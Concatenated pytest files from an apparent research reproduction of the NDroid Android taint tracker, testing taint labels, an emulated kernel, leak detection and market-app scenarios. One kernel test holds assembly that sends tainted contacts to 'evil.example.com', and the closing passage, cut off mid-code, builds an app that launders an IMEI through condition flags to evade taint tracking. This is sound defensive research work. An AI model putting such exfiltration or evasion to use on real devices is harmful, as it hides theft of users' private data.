        assert leaks[0].payload == b"X"

    def test_fprintf_formats_taint_precisely(self, env):
        platform, ndroid = env
        fp = self._file(platform, "/sdcard/CONTACTS")
        platform.memory.write_cstring(DATA, "%s %s")
        platform.memory.write_cstring(DATA + 64, "Vincent")
        platform.memory.write_cstring(DATA + 128, "clean")
        ndroid.taint_engine.set_memory(DATA + 64, 8, TAINT_CONTACTS)
        call_libc(platform, "fprintf", fp, DATA, DATA + 64, DATA + 128)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fprintf"
        assert leaks[0].taint == TAINT_CONTACTS
        assert b"Vincent clean" in leaks[0].payload

    def test_fprintf_clean_arguments_silent(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_cstring(DATA, "n=%d")
        call_libc(platform, "fprintf", fp, DATA, 7)
        assert not ndroid_leaks(platform)


class TestRawSyscallSink:
    def test_svc_write_checked_via_taint_provider(self, env):
        """Even a raw SVC write carries taints into the kernel records."""
        platform, ndroid = env
        from repro.kernel.kernel import O_CREAT
        fd = platform.kernel.sys_open("/sdcard/raw.bin", O_CREAT)
        platform.memory.write_bytes(DATA, b"abc")
        ndroid.taint_engine.set_memory(DATA, 3, TAINT_SMS)
        from repro.cpu.assembler import assemble
        program = assemble(f"""
        main:
            mov r0, #{fd}
            ldr r1, =0x{DATA:x}
            mov r2, #3
            mov r7, #4
            svc #0
            bx lr
        """, base=0x6200_0000)
        platform.emu.load(0x6200_0000, program.code)
        platform.emu.call(program.entry("main"))
        file = platform.kernel.filesystem.lookup("/sdcard/raw.bin")
        assert file.taint_union() == TAINT_SMS
