"""Unit tests for the structured event log."""

from repro.common.events import EventLog


def test_emit_assigns_sequence_numbers():
    log = EventLog()
    first = log.emit("cpu", "step")
    second = log.emit("cpu", "step")
    assert first.seq == 0
    assert second.seq == 1
    assert len(log) == 2


def test_find_filters_by_kind_and_source():
    log = EventLog()
    log.emit("dvm_hook", "NewStringUTF.begin")
    log.emit("sink", "leak", taint=0x202)
    log.emit("dvm_hook", "NewStringUTF.end")
    assert len(log.find(source="dvm_hook")) == 2
    assert len(log.find(kind="leak")) == 1
    assert log.find(kind="leak")[0].data["taint"] == 0x202


def test_first_and_last():
    log = EventLog()
    log.emit("a", "x", "one")
    log.emit("a", "x", "two")
    assert log.first("x").detail == "one"
    assert log.last("x").detail == "two"
    assert log.first("missing") is None
    assert log.last("missing") is None


def test_kinds_preserves_order():
    log = EventLog()
    for kind in ["enter", "taint", "exit"]:
        log.emit("e", kind)
    assert log.kinds() == ["enter", "taint", "exit"]


def test_subscribe_sees_new_events():
    log = EventLog()
    seen = []
    log.subscribe(lambda event: seen.append(event.kind))
    log.emit("x", "alpha")
    log.emit("x", "beta")
    assert seen == ["alpha", "beta"]


def test_dump_and_format():
    log = EventLog()
    log.emit("sink", "leak", "send() with tainted buffer")
    text = log.dump()
    assert "sink:leak" in text
    assert "send() with tainted buffer" in text


def test_clear():
    log = EventLog()
    log.emit("x", "y")
    log.clear()
    assert len(log) == 0
