"""Unit tests for the structured event log."""

from repro.common.events import EventLog


def test_emit_assigns_sequence_numbers():
    log = EventLog()
    first = log.emit("cpu", "step")
    second = log.emit("cpu", "step")
    assert first.seq == 0
    assert second.seq == 1
    assert len(log) == 2


def test_find_filters_by_kind_and_source():
    log = EventLog()
    log.emit("dvm_hook", "NewStringUTF.begin")
    log.emit("sink", "leak", taint=0x202)
    log.emit("dvm_hook", "NewStringUTF.end")
    assert len(log.find(source="dvm_hook")) == 2
    assert len(log.find(kind="leak")) == 1
    assert log.find(kind="leak")[0].data["taint"] == 0x202


def test_first_and_last():
    log = EventLog()
    log.emit("a", "x", "one")
    log.emit("a", "x", "two")
    assert log.first("x").detail == "one"
    assert log.last("x").detail == "two"
    assert log.first("missing") is None
    assert log.last("missing") is None


def test_kinds_preserves_order():
    log = EventLog()
    for kind in ["enter", "taint", "exit"]:
        log.emit("e", kind)
    assert log.kinds() == ["enter", "taint", "exit"]


def test_subscribe_sees_new_events():
    log = EventLog()
    seen = []
    log.subscribe(lambda event: seen.append(event.kind))
    log.emit("x", "alpha")
    log.emit("x", "beta")
    assert seen == ["alpha", "beta"]


def test_dump_and_format():
    log = EventLog()
    log.emit("sink", "leak", "send() with tainted buffer")
    text = log.dump()
    assert "sink:leak" in text
    assert "send() with tainted buffer" in text


def test_clear():
    log = EventLog()
    log.emit("x", "y")
    log.clear()
    assert len(log) == 0


def test_maxlen_ring_buffer_drops_oldest():
    log = EventLog(maxlen=3)
    for i in range(5):
        log.emit("a", "tick", str(i))
    assert len(log) == 3
    assert log.dropped == 2
    assert [event.detail for event in log] == ["2", "3", "4"]
    # Sequence numbers keep counting across drops.
    assert log[0].seq == 2
    assert log[-1].seq == 4


def test_unsubscribe_stops_delivery():
    log = EventLog()
    seen = []
    log.subscribe(seen.append)
    log.emit("a", "x")
    log.unsubscribe(seen.append)
    log.emit("a", "y")
    assert [event.kind for event in seen] == ["x"]
    # Unsubscribing an unknown callback is a no-op.
    log.unsubscribe(seen.append)


def test_clear_resets_sequence_and_drop_count():
    log = EventLog(maxlen=2)
    for __ in range(4):
        log.emit("a", "tick")
    log.clear()
    assert len(log) == 0
    assert log.dropped == 0
    assert log.emit("a", "tick").seq == 0
