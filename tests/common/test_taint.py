"""Unit tests for the taint-label encoding."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.common import taint as T


def test_labels_are_distinct_bits():
    labels = [
        T.TAINT_LOCATION, T.TAINT_CONTACTS, T.TAINT_MIC, T.TAINT_PHONE_NUMBER,
        T.TAINT_LOCATION_GPS, T.TAINT_LOCATION_NET, T.TAINT_LOCATION_LAST,
        T.TAINT_CAMERA, T.TAINT_ACCELEROMETER, T.TAINT_SMS, T.TAINT_IMEI,
        T.TAINT_IMSI, T.TAINT_ICCID, T.TAINT_DEVICE_SN, T.TAINT_ACCOUNT,
        T.TAINT_HISTORY,
    ]
    assert len(set(labels)) == len(labels)
    for label in labels:
        assert label != 0
        assert label & (label - 1) == 0, "each label must be a single bit"


def test_paper_log_values_decode():
    # Fig. 6: QQPhoneBook parameter taint 0x202 = SMS | CONTACTS.
    assert T.combine(T.TAINT_SMS, T.TAINT_CONTACTS) == 0x202
    # Fig. 9: case-3 PoC taint 0x1602 = ICCID | IMEI | SMS | CONTACTS.
    assert T.combine(T.TAINT_ICCID, T.TAINT_IMEI, T.TAINT_SMS,
                     T.TAINT_CONTACTS) == 0x1602


def test_combine_empty_is_clear():
    assert T.combine() == T.TAINT_CLEAR


def test_describe_taint():
    assert T.describe_taint(0) == "CLEAR"
    assert T.describe_taint(0x202) == "CONTACTS|SMS"
    assert "IMEI" in T.describe_taint(T.TAINT_IMEI)


def test_describe_taint_unknown_bits():
    text = T.describe_taint(0x8000_0000)
    assert "0x80000000" in text


def test_has_taint():
    assert T.has_taint(0x202, T.TAINT_SMS)
    assert not T.has_taint(0x202, T.TAINT_IMEI)
    assert not T.has_taint(0, T.TAINT_SMS)


@given(st.integers(0, 2**32 - 1), st.integers(0, 2**32 - 1))
def test_combine_is_union(a, b):
    merged = T.combine(a, b)
    assert merged == (a | b)
    assert T.combine(a, b) == T.combine(b, a)
    assert T.combine(a, a) == a & 0xFFFF_FFFF


@given(st.integers(0, 2**32 - 1), st.integers(0, 2**32 - 1),
       st.integers(0, 2**32 - 1))
def test_combine_is_associative(a, b, c):
    assert T.combine(T.combine(a, b), c) == T.combine(a, T.combine(b, c))
