"""Structural tests over every scenario app.

These don't run the apps (the integration suite does); they validate the
bundles themselves: classes register cleanly, native libraries assemble,
declared native methods find their binding symbols, and the scenario
metadata is coherent.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.cpu.assembler import assemble
from repro.framework import AndroidPlatform


@pytest.fixture(scope="module")
def scenarios():
    return {name: build() for name, build in ALL_SCENARIOS.items()}


class TestBundles:
    def test_all_scenarios_build(self, scenarios):
        assert len(scenarios) == 11

    @pytest.mark.parametrize("name", sorted(ALL_SCENARIOS))
    def test_apk_well_formed(self, scenarios, name):
        scenario = scenarios[name]
        apk = scenario.apk
        assert apk.package
        assert apk.classes
        assert apk.main_symbol().endswith("->main")
        # Every declared load call has a matching bundled library.
        for library in apk.load_library_calls:
            assert library in apk.native_libraries

    @pytest.mark.parametrize("name", sorted(ALL_SCENARIOS))
    def test_native_libraries_assemble(self, scenarios, name):
        platform = AndroidPlatform()
        apk = scenarios[name].apk
        externs = dict(platform.libc.symbols)
        externs.update(platform.libm.symbols)
        for source in apk.native_libraries.values():
            program = assemble(source, base=0x6000_0000, externs=externs)
            assert program.code

    @pytest.mark.parametrize("name", sorted(ALL_SCENARIOS))
    def test_native_methods_have_binding_symbols(self, scenarios, name):
        """Each native method resolves via Java_* export (except the
        RegisterNatives-style apps, of which the scenarios have none)."""
        platform = AndroidPlatform()
        apk = scenarios[name].apk
        externs = dict(platform.libc.symbols)
        externs.update(platform.libm.symbols)
        exported = set()
        for source in apk.native_libraries.values():
            program = assemble(source, base=0x6000_0000, externs=externs)
            exported.update(program.symbols)
        for class_def in apk.classes:
            for method in class_def.methods.values():
                if method.is_native:
                    assert method.jni_symbol() in exported, \
                        f"{method.full_name} has no {method.jni_symbol()}"

    def test_metadata_consistency(self, scenarios):
        for name, scenario in scenarios.items():
            assert scenario.name == name
            if scenario.expected_taint:
                assert scenario.expected_destination
            if scenario.taintdroid_alone_detects:
                assert scenario.case == "1"

    def test_scenario_cases_cover_table1(self, scenarios):
        cases = {s.case for s in scenarios.values()}
        assert {"1", "1'", "2", "3", "4"} <= cases

    def test_paper_identifiers_present(self, scenarios):
        qq = scenarios["qqphonebook"]
        assert any(c.name == "Lcom/tencent/tccsync/LoginUtil;"
                   for c in qq.apk.classes)
        login = qq.apk.classes[0].method("makeLoginRequestPackageMd5")
        assert login.shorty == "IILLLLLLLLII"       # Fig. 6's shorty
        ephone = scenarios["ephone"]
        general = ephone.apk.classes[0].method("callregister")
        assert general.shorty == "ILLLLLLLII"        # Fig. 7's shorty
        poc = scenarios["poc_case2"]
        record = poc.apk.classes[0].method("recordContact")
        assert record.shorty == "ZLLL"               # Fig. 8's shorty


class TestJniSymbolNaming:
    def test_jni_symbol_mangling(self):
        from repro.dalvik.classes import Method
        method = Method("Lcom/tencent/tccsync/LoginUtil;", "getPostUrl",
                        "LI", 0x0008 | 0x0100)
        assert method.jni_symbol() == \
            "Java_com_tencent_tccsync_LoginUtil_getPostUrl"
