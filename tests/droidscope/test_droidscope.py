"""DroidScope comparator tests."""

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.droidscope import DroidScopeSim


def test_attach_enables_taintdroid():
    platform = make_platform("droidscope")
    assert platform.taintdroid is not None
    assert platform.droidscope is not None


def test_traces_every_region():
    platform = make_platform("droidscope")
    scenario = ALL_SCENARIOS["benign"]()
    run_scenario(scenario, platform)
    sim = platform.droidscope
    stats = sim.statistics()
    assert stats["traced_instructions"] > 0
    assert stats["traced_instructions"] == sim.context_lookups


def test_dalvik_reconstruction_per_instruction():
    platform = make_platform("droidscope")
    scenario = ALL_SCENARIOS["benign"]()
    run_scenario(scenario, platform)
    stats = platform.droidscope.statistics()
    assert stats["dalvik_reconstructions"] >= \
        platform.vm.dalvik_instructions - 5


def test_library_calls_walked():
    platform = make_platform("droidscope")
    scenario = ALL_SCENARIOS["case2"]()
    run_scenario(scenario, platform)
    assert platform.droidscope.statistics()["library_walk_bytes"] > 0


def test_no_new_jni_flows_vs_taintdroid():
    """The published result: DroidScope reports no new JNI flows."""
    for name in ("case1", "case1_prime", "case2"):
        scenario = ALL_SCENARIOS[name]()
        td_platform = make_platform("taintdroid")
        run_scenario(scenario, td_platform)
        ds_platform = make_platform("droidscope")
        run_scenario(ALL_SCENARIOS[name](), ds_platform)
        td_detected = td_platform.leaks.detected_by(
            "taintdroid", scenario.expected_taint)
        ds_detected = ds_platform.leaks.detected_by(
            "taintdroid", scenario.expected_taint)
        assert td_detected == ds_detected, name
