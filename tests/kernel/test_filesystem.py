"""Unit tests for the virtual file system."""

import pytest

from repro.common.errors import KernelError
from repro.common.taint import TAINT_CONTACTS, TAINT_SMS
from repro.kernel import FileSystem


def test_create_write_read():
    fs = FileSystem()
    file = fs.create("/sdcard/CONTACTS")
    file.write_at(0, b"1 Vincent cx@gg.com")
    chunk, taints = file.read_at(0, 100)
    assert chunk == b"1 Vincent cx@gg.com"
    assert all(t == 0 for t in taints)


def test_write_preserves_taint_per_byte():
    fs = FileSystem()
    file = fs.create("/sdcard/out")
    file.write_at(0, b"ab", taints=[TAINT_CONTACTS, TAINT_SMS])
    chunk, taints = file.read_at(0, 2)
    assert chunk == b"ab"
    assert taints == [TAINT_CONTACTS, TAINT_SMS]
    assert file.taint_union() == TAINT_CONTACTS | TAINT_SMS


def test_sparse_write_extends_file():
    fs = FileSystem()
    file = fs.create("/data/f")
    file.write_at(4, b"xy")
    assert file.size == 6
    chunk, _ = file.read_at(0, 6)
    assert chunk == b"\x00\x00\x00\x00xy"


def test_open_or_create_truncate():
    fs = FileSystem()
    file = fs.create("/data/f")
    file.write_at(0, b"old", taints=[TAINT_SMS] * 3)
    same = fs.open_or_create("/data/f", create=False, truncate=True)
    assert same.size == 0
    assert same.taint_union() == 0


def test_missing_file_raises():
    fs = FileSystem()
    with pytest.raises(KernelError):
        fs.lookup("/nope")
    with pytest.raises(KernelError):
        fs.open_or_create("/nope", create=False, truncate=False)


def test_mkdir_and_listdir():
    fs = FileSystem()
    fs.mkdir("/data/app")
    fs.create("/data/app/a.txt")
    fs.create("/data/app/b.txt")
    assert fs.listdir("/data/app") == ["a.txt", "b.txt"]
    assert "app" in fs.listdir("/data")


def test_mkdir_needs_parent():
    fs = FileSystem()
    with pytest.raises(KernelError):
        fs.mkdir("/no/such/parent")


def test_relative_path_rejected():
    fs = FileSystem()
    with pytest.raises(KernelError):
        fs.create("relative.txt")


def test_rename_and_remove():
    fs = FileSystem()
    fs.create("/data/a")
    fs.rename("/data/a", "/data/b")
    assert fs.exists("/data/b")
    assert not fs.exists("/data/a")
    fs.remove("/data/b")
    assert not fs.exists("/data/b")


def test_write_read_text_helpers():
    fs = FileSystem()
    fs.write_text("/proc/version", "Linux 2.6.29")
    assert fs.read_text("/proc/version") == "Linux 2.6.29"
