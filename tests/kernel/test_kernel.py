"""Unit tests for the kernel facade: fds, sockets, SVC dispatch."""

import pytest

from repro.common.errors import KernelError
from repro.common.taint import TAINT_CONTACTS, TAINT_SMS
from repro.cpu.assembler import assemble
from repro.emulator import Emulator
from repro.kernel import Kernel
from repro.kernel.kernel import O_APPEND, O_CREAT, O_RDONLY, O_TRUNC
from repro.kernel.process import TASK_LIST_HEAD
from repro.memory import Memory


@pytest.fixture
def kernel():
    k = Kernel(Memory())
    k.spawn_process("com.example.app")
    return k


class TestFileSyscalls:
    def test_open_write_read_roundtrip(self, kernel):
        fd = kernel.sys_open("/sdcard/f.txt", O_CREAT)
        assert kernel.sys_write(fd, b"hello") == 5
        kernel.sys_close(fd)
        fd = kernel.sys_open("/sdcard/f.txt", O_RDONLY)
        chunk, taints = kernel.sys_read(fd, 100)
        assert chunk == b"hello"

    def test_write_carries_taints_into_file(self, kernel):
        fd = kernel.sys_open("/sdcard/t.txt", O_CREAT)
        kernel.sys_write(fd, b"ab", taints=[TAINT_CONTACTS, TAINT_SMS])
        file = kernel.filesystem.lookup("/sdcard/t.txt")
        assert file.taint_union() == TAINT_CONTACTS | TAINT_SMS

    def test_append_mode(self, kernel):
        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT)
        kernel.sys_write(fd, b"one")
        kernel.sys_close(fd)
        fd = kernel.sys_open("/sdcard/a.txt", O_APPEND)
        kernel.sys_write(fd, b"two")
        assert kernel.filesystem.read_text("/sdcard/a.txt") == "onetwo"

    def test_truncate(self, kernel):
        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT)
        kernel.sys_write(fd, b"payload")
        kernel.sys_close(fd)
        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT | O_TRUNC)
        assert kernel.sys_stat("/sdcard/a.txt")["size"] == 0

    def test_bad_fd(self, kernel):
        with pytest.raises(KernelError):
            kernel.sys_write(99, b"x")

    def test_close_invalidates_fd(self, kernel):
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        kernel.sys_close(fd)
        with pytest.raises(KernelError):
            kernel.sys_write(fd, b"x")

    def test_taint_length_mismatch_rejected(self, kernel):
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        with pytest.raises(KernelError):
            kernel.sys_write(fd, b"abc", taints=[TAINT_SMS])


class TestSocketSyscalls:
    def test_connect_send_records_transmission(self, kernel):
        fd = kernel.sys_socket()
        kernel.sys_connect(fd, "info.3g.qq.com:80")
        kernel.sys_send(fd, b"POST /x", taints=[TAINT_SMS] * 7)
        sent = kernel.network.transmissions_to("info.3g.qq.com")
        assert len(sent) == 1
        assert sent[0].payload == b"POST /x"
        assert sent[0].taint_union == TAINT_SMS

    def test_sendto_without_connect(self, kernel):
        fd = kernel.sys_socket()
        kernel.sys_sendto(fd, b"REGISTER", "softphone.comwave.net:5060")
        assert kernel.network.transmissions_to("comwave")[0].payload == \
            b"REGISTER"

    def test_send_unconnected_raises(self, kernel):
        fd = kernel.sys_socket()
        with pytest.raises(KernelError):
            kernel.sys_send(fd, b"x")

    def test_recv_queued_response(self, kernel):
        fd = kernel.sys_socket()
        kernel.sys_connect(fd, "server:80")
        kernel.network.queue_response("server:80", b"200 OK")
        assert kernel.sys_recv(fd, 3) == b"200"
        assert kernel.sys_recv(fd, 10) == b" OK"
        assert kernel.sys_recv(fd, 10) == b""

    def test_write_on_socket_fd_sends(self, kernel):
        fd = kernel.sys_socket()
        kernel.sys_connect(fd, "host:1")
        kernel.sys_write(fd, b"data")
        assert kernel.network.transmissions[0].destination == "host:1"


class TestProcessTable:
    def test_pids_increment(self, kernel):
        second = kernel.spawn_process("system_server")
        assert second.pid == kernel.current.pid + 1

    def test_task_structs_in_guest_memory(self, kernel):
        kernel.spawn_process("system_server")
        memory = kernel.memory
        head = memory.read_u32(TASK_LIST_HEAD)
        assert head != 0
        assert memory.read_u32(head) == 1  # pid of first task
        comm = memory.read_cstring(head + 4).decode()
        assert comm.startswith("com.example.app"[:15])
        next_task = memory.read_u32(head + 0x18)
        assert memory.read_u32(next_task) == 2

    def test_vma_chain_serialised(self, kernel):
        process = kernel.current
        process.memory_map.map(0x1000, 0x1000, "libfoo.so",
                               third_party=True)
        kernel.sync_tasks_to_guest()
        memory = kernel.memory
        head = memory.read_u32(TASK_LIST_HEAD)
        vma = memory.read_u32(head + 0x14)
        assert memory.read_u32(vma) == 0x1000
        assert memory.read_u32(vma + 4) == 0x2000
        name = memory.read_cstring(memory.read_u32(vma + 8)).decode()
        assert name == "libfoo.so"
        assert memory.read_u32(vma + 0xC) & 1  # third-party flag


class TestSvcTrapPath:
    def _run(self, source, kernel, args=()):
        emu = Emulator(memory=kernel.memory)
        program = assemble(source, base=0x10000)
        emu.load(0x10000, program.code)
        emu.cpu.sp = 0x0800_0000
        emu.syscall_handler = kernel.handle_svc
        return emu.call(program.entry("main"), args=args), emu

    def test_getpid_via_svc(self, kernel):
        result, _ = self._run("""
        main:
            mov r7, #20
            svc #0
            bx lr
        """, kernel)
        assert result == kernel.current.pid

    def test_open_write_via_svc(self, kernel):
        source = """
        main:
            push {r4, lr}
            ldr r0, =path
            mov r1, #0x40        ; O_CREAT
            mov r7, #5           ; open
            svc #0
            mov r4, r0
            ldr r1, =payload
            mov r2, #5
            mov r7, #4           ; write
            svc #0
            mov r0, r4
            mov r7, #6           ; close
            svc #0
            mov r0, #0
            pop {r4, pc}
        path:
            .asciz "/sdcard/svc.txt"
        payload:
            .asciz "hello"
        """
        self._run(source, kernel)
        assert kernel.filesystem.read_text("/sdcard/svc.txt") == "hello"

    def test_sendto_via_svc_uses_taint_provider(self, kernel):
        kernel.taint_provider = lambda addr, length: [TAINT_CONTACTS] * length
        source = """
        main:
            push {r4, lr}
            mov r0, #2
            mov r1, #2
            mov r7, #281         ; socket
            svc #0
            ldr r1, =payload
            mov r2, #4
            mov r3, #0
            ldr r4, =dest        ; arg4 in r4 per the EABI trap convention
            mov r7, #290         ; sendto
            svc #0
            mov r0, #0
            pop {r4, pc}
        payload:
            .asciz "data"
        dest:
            .asciz "evil.example.com:80"
        """
        self._run(source, kernel)
        sent = kernel.network.transmissions_to("evil.example.com")
        assert len(sent) == 1
        assert sent[0].taint_union == TAINT_CONTACTS

    def test_unknown_syscall_raises(self, kernel):
        with pytest.raises(KernelError):
            self._run("main:\n mov r7, #999\n svc #0\n bx lr", kernel)
