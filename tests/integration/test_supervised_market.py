"""Acceptance tests: the market study under the resilience supervisor.

Three properties from the resilience design:

1. an injected crash in one app yields ``crashed`` + a structured report
   for that app and leaves every other app's results identical;
2. transient syscall faults are retried with backoff and converge to the
   same leak set as a fault-free run;
3. an injected hook fault yields ``degraded`` with over-tainting only —
   the real leak is still reported.
"""

import pytest

from repro.resilience import FaultPlan, Supervisor
from repro.apps.market import run_market_study, run_supervised_market_study

EPHONE = "com.market.ephone"


def quiet_supervisor(**overrides):
    defaults = dict(budget=2_000_000, backoff_base=0.0,
                    sleep=lambda delay: None)
    defaults.update(overrides)
    return Supervisor(**defaults)


@pytest.fixture(scope="module")
def baseline():
    return {o.package: o for o in run_market_study(seed=7, events=12)}


class TestFaultFree:
    def test_matches_unsupervised_study(self, baseline):
        results = run_supervised_market_study(
            seed=7, events=12, supervisor=quiet_supervisor())
        assert [r.status for r in results] == ["ok"] * 8
        for result in results:
            expected = baseline[result.label]
            assert result.value.leaked == expected.leaked
            assert result.value.leak_destinations == \
                expected.leak_destinations
            assert result.value.delivered_to_native == \
                expected.delivered_to_native


class TestCrashContainment:
    def test_crash_in_one_app_leaves_others_identical(self, baseline):
        results = run_supervised_market_study(
            seed=7, events=12, plan=FaultPlan.parse("decode@100"),
            fault_target=EPHONE, supervisor=quiet_supervisor())
        by_package = {r.label: r for r in results}
        crashed = by_package.pop(EPHONE)
        assert crashed.status == "crashed"
        report = crashed.crash_report
        assert report is not None
        assert report.error_type == "DecodeError"
        assert report.registers  # CPU snapshot present
        assert report.last_instructions  # ring-buffer tail present
        assert report.memory_map
        assert report.injected_faults == ["decode@100"]
        for package, result in by_package.items():
            assert result.status == "ok", package
            expected = baseline[package]
            assert result.value.leaked == expected.leaked
            assert result.value.leak_destinations == \
                expected.leak_destinations


class TestTransientRetry:
    def test_eintr_retries_to_same_leak_set(self, baseline):
        results = run_supervised_market_study(
            seed=7, events=12, plan=FaultPlan.parse("eintr:sendto"),
            fault_target=EPHONE, supervisor=quiet_supervisor())
        by_package = {r.label: r for r in results}
        ephone = by_package[EPHONE]
        assert ephone.status == "ok"
        assert ephone.attempts == 2
        assert len(ephone.backoff_delays) == 1
        assert ephone.injected_faults == ["eintr:sendto"]
        assert ephone.value.leaked
        assert ephone.value.leak_destinations == \
            baseline[EPHONE].leak_destinations


class TestGracefulDegradation:
    def test_hook_fault_degrades_without_missing_the_leak(self, baseline):
        results = run_supervised_market_study(
            seed=7, events=12,
            plan=FaultPlan.parse("hook:GetStringUTFChars.entry"),
            fault_target=EPHONE, supervisor=quiet_supervisor())
        by_package = {r.label: r for r in results}
        ephone = by_package[EPHONE]
        assert ephone.status == "degraded"
        assert ephone.degraded_events > 0
        assert "GetStringUTFChars.entry" in ephone.quarantined_hooks
        # Soundness: over-taint only — the true leak is still found.
        assert ephone.value.leaked
        assert set(baseline[EPHONE].leak_destinations) <= \
            set(ephone.value.leak_destinations)

    def test_quarantined_sink_still_reports(self, baseline):
        """Failing the sink hook itself must not silence the leak: the
        quarantined sink's conservative fallback reports on every later
        call with the engine-wide live label."""
        results = run_supervised_market_study(
            seed=7, events=12,
            plan=FaultPlan.parse("hook:libc.sendto.entry"),
            fault_target=EPHONE, supervisor=quiet_supervisor())
        ephone = {r.label: r for r in results}[EPHONE]
        assert ephone.status == "degraded"
        assert "libc.sendto.entry" in ephone.quarantined_hooks
        assert ephone.value.leaked
