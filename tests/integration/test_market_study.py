"""Section VI's manual app study: 8 phone/SMS/contacts apps.

The paper: "NDroid found that 3 apps delivered the contact and SMS
information to native code.  One app (i.e., ephone3.3) further sends out
the contact information through native code."
"""

import pytest

from repro.apps.market import MARKET_APPS, run_market_study
from repro.core import NDroid
from repro.framework import AndroidPlatform
from repro.framework.monkey import MonkeyRunner


@pytest.fixture(scope="module")
def observations():
    return run_market_study(seed=7, events=12)


def test_eight_apps(observations):
    assert len(observations) == 8


def test_three_apps_deliver_sensitive_data_to_native(observations):
    delivering = [o.package for o in observations if o.delivered_to_native]
    assert sorted(delivering) == ["com.market.contactsync",
                                  "com.market.ephone",
                                  "com.market.smsbackup"]


def test_exactly_one_app_leaks(observations):
    leaking = [o for o in observations if o.leaked]
    assert len(leaking) == 1
    assert leaking[0].package == "com.market.ephone"
    assert any("comwave" in d for d in leaking[0].leak_destinations)


def test_delivery_without_leak_is_distinguished(observations):
    by_package = {o.package: o for o in observations}
    backup = by_package["com.market.smsbackup"]
    assert backup.delivered_to_native and not backup.leaked
    sync = by_package["com.market.contactsync"]
    assert sync.delivered_to_native and not sync.leaked


def test_java_only_sensitive_use_not_flagged(observations):
    """Apps touching contacts/SMS purely in Java deliver nothing."""
    by_package = {o.package: o for o in observations}
    for package in ("com.market.contactwidget", "com.market.smsfilter",
                    "com.market.phoneinfo"):
        assert not by_package[package].delivered_to_native, package
        assert not by_package[package].leaked, package


class TestMonkeyRunner:
    def test_discovers_handlers(self):
        apk = MARKET_APPS["com.market.smsfilter"]()
        handlers = MonkeyRunner.discover_handlers(apk)
        assert "Lcom/market/smsfilter/Main;->onFilter" in handlers
        assert "Lcom/market/smsfilter/Main;->onScan" in handlers
        # main is not a handler.
        assert not any(h.endswith("->main") for h in handlers)

    def test_deterministic_for_seed(self):
        platform = AndroidPlatform()
        NDroid.attach(platform)
        apk = MARKET_APPS["com.market.dialer"]()
        platform.install(apk)
        first = MonkeyRunner(platform, seed=3).run(apk, events=6)
        platform2 = AndroidPlatform()
        NDroid.attach(platform2)
        apk2 = MARKET_APPS["com.market.dialer"]()
        platform2.install(apk2)
        second = MonkeyRunner(platform2, seed=3).run(apk2, events=6)
        assert first.events_fired == second.events_fired

    def test_coverage_metric(self):
        platform = AndroidPlatform()
        NDroid.attach(platform)
        apk = MARKET_APPS["com.market.smsfilter"]()  # two handlers
        platform.install(apk)
        session = MonkeyRunner(platform, seed=0).run(apk, events=1)
        assert session.coverage == 0.5  # one of two handlers hit

    def test_low_event_count_can_miss_the_leak(self):
        """The paper's coverage caveat: random input may skip the leaking
        path entirely (Section VII)."""
        outcomes = set()
        for seed in range(6):
            platform = AndroidPlatform()
            NDroid.attach(platform)
            apk = MARKET_APPS["com.market.ephone"]()
            # Add a decoy handler so the monkey can spend its one event
            # elsewhere.
            from repro.dalvik.classes import MethodBuilder
            cls = apk.classes[0]
            cls.add_method(MethodBuilder(cls.name, "onAbout", "V",
                                         static=True, registers=1)
                           .ret_void().build())
            platform.install(apk)
            MonkeyRunner(platform, seed=seed).run(apk, events=1)
            outcomes.add(bool(platform.leaks.records))
        assert outcomes == {True, False}, (
            "with one random event some seeds must hit the leak and "
            "some must miss it")
