"""Section VII — the limitations NDroid shares with TaintDroid/DroidScope.

"Similar to TaintDroid and DroidScope, NDroid does not track control
flows.  Therefore, it could be evaded by apps that use the same control
flow based techniques for circumventing those systems."

The evasion app below copies a tainted buffer *bit by bit through the
condition flags*: it tests each source bit (``tst``) and conditionally
ORs a constant into the destination (``orrne``).  No data-flow edge
connects source to destination, so the taint is — correctly, per the
paper's stated policy — lost, and the leak goes undetected even though
the exfiltrated bytes are identical.  This is a *faithfulness* test: if
it starts failing, the reproduction has drifted from the published
system's semantics.
"""

import pytest

from repro.common.taint import TAINT_IMEI
from repro.core import NDroid
from repro.dalvik import ClassDef, MethodBuilder
from repro.framework import AndroidPlatform, Apk
from repro.jni.slots import jni_offset


def build_control_flow_evader() -> Apk:
    cls = ClassDef("Lcom/evader/App;")
    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
    main.const_string(0, "libevade.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->beam", 1)
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    Java_com_evader_App_beam:         ; (env, jclass, jstring imei)
        push {{r4, r5, r6, r7, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, imei, NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0                    ; tainted source buffer
        ldr r6, =clean_buffer         ; untainted destination
        mov r7, #0                    ; byte index
    byte_loop:
        cmp r7, #15                   ; IMEI is 15 digits
        bge done
        ldrb r2, [r5, r7]             ; tainted byte (data flow stops here)
        mov r3, #0                    ; rebuilt byte
        ; copy each bit through the flags: tst + conditional orr
        tst r2, #0x01
        orrne r3, r3, #0x01
        tst r2, #0x02
        orrne r3, r3, #0x02
        tst r2, #0x04
        orrne r3, r3, #0x04
        tst r2, #0x08
        orrne r3, r3, #0x08
        tst r2, #0x10
        orrne r3, r3, #0x10
        tst r2, #0x20
        orrne r3, r3, #0x20
        tst r2, #0x40
        orrne r3, r3, #0x40
        tst r2, #0x80
        orrne r3, r3, #0x80
        strb r3, [r6, r7]
        add r7, r7, #1
        b byte_loop
    done:
